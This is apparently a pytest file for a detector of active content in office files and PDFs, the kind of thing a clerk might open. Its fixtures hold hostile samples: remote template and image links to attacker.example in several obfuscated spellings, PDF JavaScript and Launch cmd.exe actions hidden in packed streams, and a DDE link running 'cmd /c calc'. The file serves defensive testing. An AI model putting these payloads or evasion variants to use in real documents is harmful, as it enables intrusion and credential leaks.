"""What loads from elsewhere, or runs, when a clerk opens it."""

import io
import random
import tracemalloc
import zipfile
import zlib
from collections.abc import Mapping

import pytest
from hypothesis import given
from hypothesis import strategies as st

from intake.core.files import active_content
from intake.core.files.active_content import CannotBeRead, is_active
from intake.core.files.attachments import DOCX, JPEG, PDF, XLSX, kind_of
from tests.unit.intake.core.files.test_attachments import office

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LIST = "http://schemas.openxmlformats.org/package/2006/relationships"
_RELS = "word/_rels/document.xml.rels"


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    """A list of one relationship."""
    said = f'<Relationship Id="rId1" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_LIST}">{said}</Relationships>'.encode()


def document(parts: Mapping[str, bytes], *, of: str = "word/document.xml") -> io.BytesIO:
    """An office file with these parts as well."""
    written = io.BytesIO(office(of))
    with zipfile.ZipFile(written, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://attacker.example/a.dotm"),
        ("attachedTemplate", "file:////attacker.example/share/a.dotm"),
        ("attachedTemplate", r"\\attacker.example\share\a.dotm"),
        ("attachedTemplate", "file:%2F%2F/attacker.example/share/a.dotm"),
        ("image", "http://attacker.example/seen.png"),
        ("image", "//attacker.example/seen.png"),
        ("image", "file://attacker.example/seen.png"),
        ("image", r"/\\attacker.example\\seen.png"),
        ("image", "/&#9;/attacker.example/seen.png"),
        ("image", "/%09/attacker.example/seen.png"),
        ("image", "\u200b/%E2%80%8B/attacker.example/seen.png"),
        ("image", "&#104;ttp://attacker.example/seen.png"),
        ("oleObject", "mhtml:http://attacker.example/a!x-usc:http://attacker.example/a"),
        ("frame", "http://attacker.example"),
        ("externalLinkPath", "https://attacker.example/book.xlsx"),
    ],
)
def test_what_loads_from_elsewhere(kind: str, target: str) -> None:
    """As its program finds it, however it is written."""
    found = document({_RELS: relation(kind, target)})

    assert is_active(found, DOCX)
    assert is_active(document({"XL/_RELS/B.RELS": relation(kind, target)}, of="xl/workbook.xml"), XLSX)


@pytest.mark.parametrize("kind", ["oleObject", "control", "aFChunk", "vbaProject", "connections"])
def test_what_runs_whatever_its_part_is_called(kind: str) -> None:
    """The part has the name of a picture; what it is, its relationship says."""
    parts = {_RELS: relation(kind, "media/image1.png", "Internal"), "word/media/image1.png": b"x"}

    assert is_active(document(parts), DOCX)


@pytest.mark.parametrize(
    ("kind", "target", "mode"),
    [
        ("hyperlink", "https://example.org", "External"),
        ("attachedTemplate", r"file:///C:\Users\zhang\letter.dotx", "External"),
        ("attachedTemplate", "Normal.dotm", "External"),
        ("externalLinkPath", "../2025/预算.xlsx", "External"),
        ("externalLinkPath", "/Users/zhang/预算.xlsx", "External"),
        ("externalLinkPath", "file:///Users/zhang/%E9%A2%84%E7%AE%97.xlsx", "External"),
        ("image", "media/image1.png", "Internal"),
        ("styles", "styles.xml", "Internal"),
    ],
)
def test_what_loads_nothing(kind: str, target: str, mode: str) -> None:
    """A link that somebody presses, a place on the reader's own disk, a part of the file itself."""
    assert not is_active(document({_RELS: relation(kind, target, mode)}), DOCX)


@pytest.mark.parametrize(
    "relations",
    [
        b"",
        b"<Relationships",
        b'<!DOCTYPE r [<!ENTITY a "http://attacker.example">]>'
        + relation("image", "media/a.png", "Internal")[38:],
    ],
)
def test_what_cannot_be_told_is_active(relations: bytes) -> None:
    """A list that is none, or says more than it may: one program reads it thus, another otherwise."""
    assert is_active(document({_RELS: relations}), DOCX)


def test_two_parts_of_one_name_are_active() -> None:
    """Programs differ in which of them they read."""
    found = document({_RELS: relation("image", "http://attacker.example/a.png")})
    with zipfile.ZipFile(found, "a") as archive:
        archive.writestr(_RELS.upper(), relation("image", "media/a.png", "Internal"))

    assert is_active(found, DOCX)


def test_a_list_without_end_is_active() -> None:
    """It is not unpacked."""
    assert is_active(document({_RELS: b" " * (active_content._RELATIONS_BYTES + 1)}), DOCX)


_PLAIN = relation("image", "media/image1.png", "Internal")


def _with_relations(content: bytes, how: int) -> io.BytesIO:
    """A document whose list of relationships is packed so."""
    written = io.BytesIO(office("word/document.xml"))
    with zipfile.ZipFile(written, "a", how) as archive:
        archive.writestr(_RELS, content)
    return written


@pytest.mark.parametrize("how", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, zipfile.ZIP_DEFLATED])
def test_no_more_is_unpacked_than_a_list_may_have(how: int) -> None:
    """Its sender says that it has a thousand bytes: what they say holds nobody's memory."""
    written = _with_relations(_PLAIN + b" " * 20_000_000, how)
    said = bytearray(written.getvalue())
    size = (len(_PLAIN) + 20_000_000).to_bytes(4, "little")
    written = io.BytesIO(said.replace(size, (1000).to_bytes(4, "little")))

    tracemalloc.start()
    try:
        assert is_active(written, DOCX)
        assert tracemalloc.get_traced_memory()[1] < 10_000_000
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    "how", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA, zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED]
)
def test_whatever_is_wrong_with_a_packed_list_refuses_it(how: int) -> None:
    """Any of its bytes may be another: no file stops what comes after it."""
    whole = _with_relations(_PLAIN, how).getvalue()
    begin = whole.index(_RELS.encode())
    for place in range(begin, len(whole)):
        is_active(io.BytesIO(whole[:place] + bytes([whole[place] ^ 0xFF]) + whole[place + 1 :]), DOCX)

    damaged = begin + len(_RELS) + 12
    assert is_active(io.BytesIO(whole[:damaged] + b"\xff" * 8 + whole[damaged + 8 :]), DOCX)


def test_a_part_beyond_the_end_of_any_file_is_refused() -> None:
    """Where it begins is told in 64 bits, of which a disk has fewer."""
    content = _with_relations(_PLAIN, zipfile.ZIP_DEFLATED).getvalue()
    listed, ended = content.rindex(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    more = b"\x01\x00\x08\x00" + b"\xff" * 8
    entry, end = bytearray(content[listed:ended] + more), bytearray(content[ended:])
    entry[30:32], entry[42:46] = len(more).to_bytes(2, "little"), b"\xff" * 4
    end[12:16] = (int.from_bytes(end[12:16], "little") + len(more)).to_bytes(4, "little")
    file = io.BytesIO(content[:listed] + entry + end)

    assert DOCX == kind_of(file)
    assert is_active(file, DOCX)


def pdf(objects: bytes) -> io.BytesIO:
    """A file that says so, with these objects."""
    return io.BytesIO(b"%PDF-1.7\n1 0 obj\n" + objects + b"\nendobj\n%%EOF")


def packed(objects: bytes, *, named: bytes = b"/ObjStm") -> bytes:
    """The same objects in a stream."""
    return b"<</Type " + named + b"/Filter/FlateDecode>>stream\r\n" + zlib.compress(objects) + b"\nendstream"


_SCRIPT = b"<</S /JavaScript /JS (app.launchURL)>>"


@pytest.mark.parametrize(
    "objects",
    [
        _SCRIPT,
        b"<</S /J#61vaScript>>",
        b"<</S/Launch/F(cmd.exe)>>",
        b"<</OpenAction<</S/GoToR/F(\\\\attacker\\a.pdf)>>>>",
        packed(b"x" * 1_000_000 + _SCRIPT),
        packed(_SCRIPT, named=b"/Obj#53tm"),
        packed(b"7 0 " + _SCRIPT, named=b"/ObjStm" + b" " * 3000),
        packed(b"7 0 " + _SCRIPT, named=b"/ObjStm % 1 0 obj stream\n" + zlib.compress(b"x") + b"\n"),
        packed(b"% remark\n7%\n0 " + _SCRIPT, named=b"/Unsaid"),
        packed(_SCRIPT).replace(b"stream\r\n", b"stream \r", 1),
        b"x" * active_content._PIECE + _SCRIPT,
    ],
    ids=[
        "script",
        "spelled otherwise",
        "program",
        "another file",
        "packed",
        "packed, spelled otherwise",
        "packed, said long before",
        "packed, said before a remark",
        "packed, not said",
        "packed, behind a blank",
        "behind",
    ],
)
def test_a_pdf_that_runs_something(objects: bytes) -> None:
    """Plain or packed, and wherever it stands."""
    assert is_active(pdf(objects), PDF)


def _damaged(begins: bytes) -> bytes:
    """A stream that begins so, and cannot be unpacked from its middle on."""
    return (
        packed(begins + random.Random(1).randbytes(9999).hex().encode(), named=b"/Some")[:5000]
        + b"\xff" * 5000
    )


@pytest.mark.parametrize(
    "objects",
    [
        b"<</OpenAction [3 0 R /XYZ null null 0]>> <</S/URI/URI(https://example.org)>>",
        b"<</Title /JavaScripts /Launched>>",
        packed(b"<</Type/Page>>"),
        packed(b"<</Type/Page>>", named=b"/ObjStm/DecodeParms null"),
        packed(b"<</Type/Page>>", named=b"/ObjStm/DecodeParms [ null ]"),
        packed(b"1 0 0 1 72 720 cm BT (page) Tj ET", named=b"/Drawn"),
        _damaged(b"1 0 0 1 72 720 cm "),
        b"<</Title (about /ObjStm)>>endobj % /ObjStm\n2 0 obj<</Filter/DCTDecode>>stream\n\xff\xd8\xff\nendstream",
        packed(bytes(range(256)) * 99, named=b"/Picture"),
        b"<</Type /ObjStm/N 1/First 4>>stream\n7 0 <</Type/Page>>\nendstream",
    ],
)
def test_an_ordinary_pdf(objects: bytes) -> None:
    """Opened at a page, with links that somebody presses; also one whose end is missing."""
    assert not is_active(pdf(objects), PDF)
    assert not is_active(io.BytesIO(pdf(objects).getvalue()[:-40]), PDF)


@pytest.mark.parametrize(
    "objects",
    [
        b"<</Type /ObjStm/Filter/LZWDecode>>stream\n\x80\x0b\x60\x50\nendstream",
        b"<</Type /ObjStm/Filter[/ASCIIHexDecode/FlateDecode]>>stream\n789c4b4c\nendstream",
        packed(_SCRIPT).partition(b"\r\n")[0] + b"\r\n" + b"\x9c" * 400,
        _damaged(b"7 0 <<").replace(b"/Some", b"/ObjStm"),
        _damaged(b"7 0 <<"),
        packed(_SCRIPT, named=b"/ObjStm/DecodeParms <</Predictor 11/Columns 4>>"),
        packed(_SCRIPT, named=b"/ObjStm").replace(b"<<", b"<</D#65codeParms 9 0 R", 1),
    ],
    ids=[
        "packed otherwise",
        "packed twice",
        "encrypted",
        "damaged",
        "damaged, not said",
        "packed in one way more",
        "packed in one way more, spelled otherwise",
    ],
)
def test_what_nobody_here_can_unpack_is_said_to_be(objects: bytes) -> None:
    """Whether it runs something nobody knows."""
    with pytest.raises(CannotBeRead):
        is_active(pdf(objects), PDF)


@given(place=st.integers(0, 2 * active_content._OVERLAP))
def test_no_name_is_missed_between_two_pieces(place: int) -> None:
    """Wherever the next piece begins."""
    before = active_content._PIECE - active_content._OVERLAP + place - 18

    assert is_active(pdf(b" " * before + _SCRIPT), PDF)
    assert is_active(pdf(b" " * before + packed(_SCRIPT)), PDF)


def test_what_nobody_looks_through_is_active(monkeypatch: pytest.MonkeyPatch) -> None:
    """Objects that unpack without end, and streams without number: nobody is kept waiting, and nothing is hidden so."""
    monkeypatch.setattr(active_content, "_PACKED_BYTES", 1_000_000)
    monkeypatch.setattr(active_content, "_MOST_PACKED", 3)
    monkeypatch.setattr(active_content, "_MOST_STREAMS", 10)

    assert is_active(pdf(packed(b"x" * 3_000_000)), PDF)
    assert is_active(pdf(packed(b"x") * 4), PDF)
    assert not is_active(pdf(packed(b"x") * 3), PDF)
    assert is_active(pdf(packed(b"7 0 <<>>", named=b"/Unsaid") * 4), PDF)
    assert is_active(pdf(b"stream\n" * 11), PDF)
    assert not is_active(pdf(b"stream\n" * 10), PDF)


def test_many_pages_and_large_drawings_are_no_reason(monkeypatch: pytest.MonkeyPatch) -> None:
    """What begins with a number and is drawn counts as nothing that holds objects."""
    monkeypatch.setattr(active_content, "_PACKED_BYTES", 1_000_000)
    monkeypatch.setattr(active_content, "_MOST_PACKED", 3)
    page = b"1 0 0 1 72 720 cm "

    assert not is_active(pdf(packed(page, named=b"/Drawn") * 9), PDF)
    assert not is_active(pdf(packed(page + b"0 0 m " * 100_000, named=b"/Drawn") * 9), PDF)
    assert is_active(pdf(packed(page + _SCRIPT, named=b"/Drawn")), PDF)


def test_pictures_sounds_and_films_do_nothing_by_themselves() -> None:
    """They are not looked into for that."""
    assert not is_active(io.BytesIO(b"/JavaScript"), JPEG)
    assert DOCX == kind_of(document({_RELS: relation("image", "http://attacker.example/a.png")}))


_LINK = '<x:externalLink xmlns:x="m">{}<x:{} ddeService="cmd" ddeTopic="/c calc"/></x:externalLink>'
_BOOK = "xl/workbook.xml"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("before", ["", f"<!--{' ' * 40_000}-->"], ids=["first", "behind a remark"])
def test_a_workbook_whose_link_starts_a_program(encoding: str, before: str) -> None:
    """Dynamic data exchange: `=cmd|'/c …'!A0` is kept as a link, and no relationship tells of it."""
    links = [_LINK.format(before, kind).encode(encoding) for kind in ("ddeLink", "externalBook")]

    found = [is_active(document({"xl/externalLinks/a.xml": link}, of=_BOOK), XLSX) for link in links]

    assert [True, False] == found


@pytest.mark.parametrize(
    "target", ["other/a.xml", "/xl/other/a.xml", "./Other%2Fa.xml", r"..\xl\other\a.xml"]
)
def test_a_link_is_found_wherever_it_stands(target: str) -> None:
    """As its program finds it: by its relationship."""
    related = relation("externalLink", target, "Internal")
    found = []
    for kind in ("ddeLink", "externalBook"):
        parts = {"xl/_rels/workbook.xml.rels": related, "xl/other/a.xml": _LINK.format("", kind).encode()}
        found.append(is_active(document(parts, of=_BOOK), XLSX))

    assert [True, False] == found


def test_a_folder_is_no_link() -> None:
    """Whoever packs a workbook by hand packs its folders, too."""
    parts = {
        "xl/externalLinks/_rels/": b"",
        "xl/externalLinks/a.xml": _LINK.format("", "externalBook").encode(),
    }

    assert not is_active(document(parts, of=_BOOK), XLSX)


def test_a_link_that_nobody_looks_through_is_active(monkeypatch: pytest.MonkeyPatch) -> None:
    """It is longer than any, or not there."""
    monkeypatch.setattr(active_content, "_LINKS_BYTES", 1000)
    link = _LINK.format(" " * 1000, "externalBook").encode()
    related = relation("externalLink", "other/a.xml", "Internal")

    assert is_active(document({"xl/externalLinks/a.xml": link}, of=_BOOK), XLSX)
    assert is_active(document({"xl/_rels/workbook.xml.rels": related}, of=_BOOK), XLSX)
